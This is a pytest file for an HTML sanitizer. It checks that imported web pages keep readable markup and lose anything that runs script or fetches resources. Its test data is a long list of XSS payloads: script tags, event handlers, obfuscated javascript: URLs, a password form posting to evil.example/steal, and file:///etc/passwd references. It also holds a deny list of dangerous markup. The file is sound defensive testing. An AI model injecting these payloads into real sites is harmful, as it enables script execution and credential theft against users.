"""Hostile markup: whatever a saved page tries, the stored HTML can neither run nor fetch anything."""

from __future__ import annotations

import re

import pytest
from lxml import html as lxml_html

from reader.core.importing.sanitize import ALLOWED_ATTRS, ALLOWED_TAGS, sanitize_fragment

TEXT = (
    "The committee met on Tuesday to discuss the harbour budget. After a long debate the members agreed "
    "to repair the north pier before the autumn storms, and to postpone the new lighthouse until spring. "
)

# Each entry: one way a page might try to run script or reach the network.
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type='module'>import('https://evil.example/m.js')</script>",
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' width=1 height=1>",
    "<img src=//evil.example/protocol-relative.png>",
    "<img src='javascript:alert(1)'>",
    "<img srcset='https://evil.example/a.png 1x, https://evil.example/b.png 2x'>",
    "<img src='asset:../../etc/passwd'>",
    "<picture><source srcset='https://evil.example/p.webp'><img src='https://evil.example/p.jpg' alt='pic'></picture>",
    "<p onclick='alert(1)' onmouseover=alert(1) OnLoad=alert(1)>handlers</p>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>js link</a>",
    "<a href='JaVaScRiPt:alert(1)'>mixed case</a>",
    "<a href=' &#14;  javascript:alert(1)'>control char</a>",
    "<a href='java&#x09;script:alert(1)'>entity tab</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>entities</a>",
    "<a href='vbscript:msgbox(1)'>vb</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data link</a>",
    "<a href='file:///etc/passwd'>file</a>",
    "<a href='https://example.org/ok' ping='https://evil.example/ping' target=_blank>ok link</a>",
    "<iframe src='https://evil.example/frame'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='https://evil.example/f'></frameset>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code='X.class'></applet>",
    "<svg onload=alert(1)><script>alert(1)</script><image href='https://evil.example/i.png'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>svg link</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>math</mi></math>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<meta http-equiv='Set-Cookie' content='a=b'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/s.css'>",
    "<link rel=prefetch href='https://evil.example/prefetch'>",
    "<style>@import 'https://evil.example/i.css'; body{background:url(https://evil.example/b.png)}</style>",
    "<p style='background-image:url(https://evil.example/bg.png)'>styled</p>",
    "<p style='width: expression(alert(1))'>expression</p>",
    "<div style='behavior: url(script.htc)'>behavior</div>",
    "<table background='https://evil.example/t.png'><tr><td background='https://evil.example/td.png'>cell</td></tr></table>",
    "<body background='https://evil.example/body.png'>",
    "<video src='https://evil.example/v.mp4' poster='https://evil.example/poster.png'></video>",
    "<audio src='https://evil.example/a.mp3' autoplay></audio>",
    "<form action='https://evil.example/steal'><input name=p type=password><button>go</button></form>",
    "<input type=image src='https://evil.example/input.png'>",
    "<isindex action='https://evil.example/'>",
    "<details open ontoggle=alert(1)><summary>sum</summary>details</details>",
    "<marquee onstart=alert(1)>marquee</marquee>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<blockquote cite='javascript:alert(1)'>quoted</blockquote>",
    "<object type='text/x-scriptlet' data='https://evil.example/scriptlet'></object>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<div data-bind='click: alert(1)' is='x-evil'>knockout</div>",
    "<p><!--[if gte IE 4]><script>alert(1)</script><![endif]--></p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<portal src='https://evil.example/portal'></portal>",
    "<a href='https://evil.example/' style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img dynsrc='https://evil.example/d.avi' lowsrc='https://evil.example/l.png'>",
    "<bgsound src='https://evil.example/s.wav'>",
    "<layer src='https://evil.example/layer'></layer>",
    "<ilayer src='https://evil.example/ilayer'></ilayer>",
    "<div><a href='https://good.example/'>good link</a> and <b>bold</b>, <code>code()</code></div>",
]

URL_ATTRS = {"href", "src", "cite", "action", "background", "poster", "data", "srcset", "formaction", "xlink:href"}
SAFE_HREF = re.compile(r"^(https?://|mailto:|#)", re.I)


def assert_inert(clean: str) -> None:
    """Nothing in `clean` can run script or make a request when shown."""
    lowered = clean.lower()
    for needle in (
        "<script",
        "javascript:",
        "vbscript:",
        "expression(",
        "url(",
        "@import",
        "evil.example/x.js",
        "data:",
        "srcset",
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<meta",
        "<base",
        "<link",
        "<style",
        "<form",
        "<input",
        "<video",
        "<audio",
        "<source",
        "<frame",
        "<template",
        "<math",
        "<portal",
    ):
        assert needle not in lowered, (needle, clean)
    if not clean.strip():
        return
    root = lxml_html.fragment_fromstring(clean, create_parent="div")
    for el in root.iter():
        if el is root:
            continue
        assert isinstance(el.tag, str), clean  # no comments or processing instructions
        assert el.tag in ALLOWED_TAGS, (el.tag, clean)
        allowed = ALLOWED_ATTRS["*"] | ALLOWED_ATTRS.get(el.tag, set())
        for name, value in el.attrib.items():
            assert name in allowed and not name.startswith("on"), (name, clean)
            if el.tag == "a" and name == "href":
                assert SAFE_HREF.match(value.strip()), clean
            elif el.tag == "img" and name == "src":
                assert value.startswith("asset:") and "/" not in value, clean
            elif name in URL_ATTRS:
                assert SAFE_HREF.match(value.strip()), (name, clean)


@pytest.mark.parametrize("snippet", XSS)
def test_sanitize_fragment_leaves_nothing_that_runs_or_fetches(snippet):
    assert_inert(sanitize_fragment(f"<p>{TEXT}</p>{snippet}<p>{TEXT}</p>"))


def test_reading_markup_survives():
    clean = sanitize_fragment(
        "<h2 id=x class=y>Head</h2><p lang=fr dir=ltr>Un <em>texte</em> <strong>fort</strong> "
        "<a href='https://example.org/a' title='t'>lien</a> <a href='#note1'>1</a> "
        "<a href='mailto:a@example.org'>mail</a></p><blockquote><p>quote</p></blockquote>"
        "<ol start=3><li>one</li></ol><pre><code data-language=python>x = 1</code></pre>"
        "<table><thead><tr><th scope=col>h</th></tr></thead><tbody><tr><td colspan=2>c</td></tr></tbody></table>"
        "<figure><figcaption>cap</figcaption></figure><p>x<sup>2</sup> H<sub>2</sub>O <time datetime='2024-05-01'>May</time></p>"
    )
    for kept in (
        "<h2>Head</h2>",
        'lang="fr"',
        "<em>texte</em>",
        'href="https://example.org/a"',
        'href="#note1"',
        'href="mailto:a@example.org"',
        "<blockquote>",
        'start="3"',
        'data-language="python"',
        'scope="col"',
        'colspan="2"',
        "<figcaption>cap</figcaption>",
        "<sup>2</sup>",
        'datetime="2024-05-01"',
    ):
        assert kept in clean, kept
    assert "id=" not in clean and "class=" not in clean


def test_image_sizes_must_be_plain_numbers():
    clean = sanitize_fragment(
        "<img src='asset:0123456789abcdef01234567.png' width='100%;background:url(x)' height='999999999' alt='a'>"
        "<img src='asset:89abcdef0123456789abcdef.jpg' width='640' height='480'>"
    )
    assert 'width="640"' in clean and 'height="480"' in clean
    assert "100%" not in clean and "999999999" not in clean


def test_hostile_page_imports_clean(library, tmp_path):
    body = "".join(f"<p>{TEXT} ({i})</p>{snippet}" for i, snippet in enumerate(XSS))
    page = tmp_path / "hostile.html"
    page.write_text(
        "<!DOCTYPE html><html><head><title>Harbour budget</title>"
        "<meta http-equiv='refresh' content='0;url=https://evil.example/'><base href='https://evil.example/'>"
        "<script>alert(1)</script><link rel=stylesheet href='https://evil.example/s.css'></head>"
        f"<body onload=alert(1)><article><h1>Harbour budget</h1>{body}</article></body></html>"
    )
    [outcome] = library.import_paths([page], workers=1)
    assert outcome.status == "imported", outcome
    article = library.get(outcome.id)
    assert_inert(article.html)
    assert "good link" in article.text and "north pier" in article.text
    assert article.images == ()


def test_only_asset_names_the_importer_makes_are_image_sources():
    clean = sanitize_fragment(
        "<img src='asset:0123456789abcdef01234567.png'><img src='asset:x/../../y.png'>"
        "<img src='asset:0123456789abcdef01234567.svg'>"
    )
    assert clean.count("<img") == 1


def test_spans_and_directions_are_bounded():
    clean = sanitize_fragment(
        "<table><tr><td colspan=99999 rowspan=-5 dir=evil>x</td></tr></table>"
        "<ol type=disc start=abc><li value=7>y</li></ol>"
    )
    assert 'colspan="1000"' in clean and 'rowspan="0"' in clean and "dir=" not in clean
    assert "type=" not in clean and "start=" not in clean and 'value="7"' in clean


@pytest.mark.parametrize(
    "escaped",
    [
        "&lt;img src=x onerror=alert(1)&gt; text first",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "a &amp;lt; b &lt;/p&gt;&lt;iframe src=https://evil.example/&gt;",
    ],
)
def test_text_that_looks_like_markup_stays_text(escaped):
    # Found by the property tests: the fragment's leading text came out unescaped.
    clean = sanitize_fragment(escaped + "<p>after</p>")
    assert_inert(clean)
    root = lxml_html.fragment_fromstring(clean, create_parent="div")
    assert [el.tag for el in root] == ["p"]


def test_an_image_that_is_a_cells_value_leaves_its_alt_as_inert_text():
    # Never fetched, so the image goes; its alt is the cell's value ("yes"), kept as text
    # however it is written, and never as an address.
    clean = sanitize_fragment(
        "<table><tr><td><img src='https://evil.example/yes.png' alt='yes'></td>"
        "<td><img src='https://evil.example/x.png' alt='&lt;script&gt;alert(1)&lt;/script&gt;'></td>"
        "<td><img src='https://evil.example/y.png' alt='javascript:alert(1)'></td>"
        "<td><img src='https://evil.example/z.png' alt='https://evil.example/z.png'></td></tr></table>"
    )
    assert_inert(clean)
    assert "evil.example" not in clean and "<img" not in clean
    root = lxml_html.fragment_fromstring(clean, create_parent="div")
    assert [td.text_content() for td in root.iter("td")] == ["yes", "<script>alert(1)</script>", "", ""]
